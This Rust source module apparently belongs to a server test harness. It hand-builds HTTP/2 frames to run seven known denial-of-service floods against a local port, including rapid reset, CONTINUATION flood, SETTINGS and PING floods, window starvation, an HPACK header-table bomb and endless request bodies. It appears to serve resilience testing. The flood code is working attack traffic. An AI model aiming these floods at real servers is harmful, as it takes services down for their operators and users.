//! HTTP/2 frames by hand: what the known floods send.

use std::io::Write;

use super::connect;
use super::floods::Attack;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;

/// Name and attack.
pub(crate) const ALL: [(&str, Attack); 7] = [
    ("h2 rapid reset", |port| {
        flood(port, &[], |n| {
            let stream = n * 2 + 1;
            [
                headers(stream, END_STREAM | END_HEADERS),
                frame(0x3, 0, stream, &8u32.to_be_bytes()),
            ]
            .concat()
        });
    }),
    ("h2 CONTINUATION flood", |port| {
        flood(port, &headers(1, END_STREAM), |_| {
            frame(0x9, 0, 1, &[0x00; 16_000])
        });
    }),
    ("h2 SETTINGS flood", |port| {
        flood(port, &[], |_| frame(0x4, 0, 0, &[0, 3, 0, 0, 0, 64]))
    }),
    ("h2 PING flood", |port| {
        flood(port, &[], |_| frame(0x6, 0, 0, &[7; 8]))
    }),
    ("h2 window starvation", |port| {
        // No room for any answer, and requests without end.
        flood(port, &frame(0x4, 0, 0, &[0, 4, 0, 0, 0, 0]), |n| {
            headers(n * 2 + 1, END_STREAM | END_HEADERS)
        });
    }),
    ("h2 header-table bomb", |port| {
        flood(port, &[], |n| {
            let mut block = request();
            if n == 0 {
                // One field of 3,900 bytes into the table, ..
                block.extend([0x40, 1, b'x', 0x7f, 0xbd, 0x1d]);
                block.extend([b'v'; 3900]);
            }
            // .. and thousands of one-byte references to it.
            block.extend([0xbe; 8000]);
            frame(0x1, END_STREAM | END_HEADERS, n * 2 + 1, &block)
        });
    }),
    ("h2 bodies that never end", |port| {
        flood(port, &[], |n| {
            let stream = n * 2 + 1;
            let mut all = headers_of(stream, END_HEADERS, &posting());
            all.extend(frame(0x0, 0, stream, &[b'a'; 16_000]));
            all
        });
    }),
];

/// Opens, says what comes first, then frame after frame without reading anything: 32 MiB, or no more room.
fn flood(port: u16, first: &[u8], next: impl Fn(u32) -> Vec<u8>) {
    let Some(mut stream) = connect(port) else { return };
    let opening = [PREFACE, &frame(0x4, 0, 0, &[]), first].concat();
    let mut sent = 0;
    let mut number = 0;
    let mut said = stream.write_all(&opening);
    while said.is_ok() && sent < 32 << 20 && number < 1 << 20 {
        let bytes = next(number);
        said = stream.write_all(&bytes);
        sent += bytes.len();
        number += 1;
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut out = vec![length[1], length[2], length[3], kind, flags];
    out.extend(stream.to_be_bytes());
    out.extend(payload);
    out
}

fn headers(stream: u32, flags: u8) -> Vec<u8> {
    headers_of(stream, flags, &request())
}

fn headers_of(stream: u32, flags: u8, block: &[u8]) -> Vec<u8> {
    frame(0x1, flags, stream, block)
}

/// `GET http://localhost/`, by the static table (RFC 7541 appendix A).
fn request() -> Vec<u8> {
    [&[0x82, 0x86, 0x84, 0x41, 9][..], b"localhost"].concat()
}

/// `POST /api/login` with a JSON body.
fn posting() -> Vec<u8> {
    let mut block = vec![0x83, 0x86, 0x04, 10];
    block.extend(b"/api/login");
    block.extend([0x41, 9]);
    block.extend(b"localhost");
    block.extend([0x0f, 0x10, 16]);
    block.extend(b"application/json");
    block
}
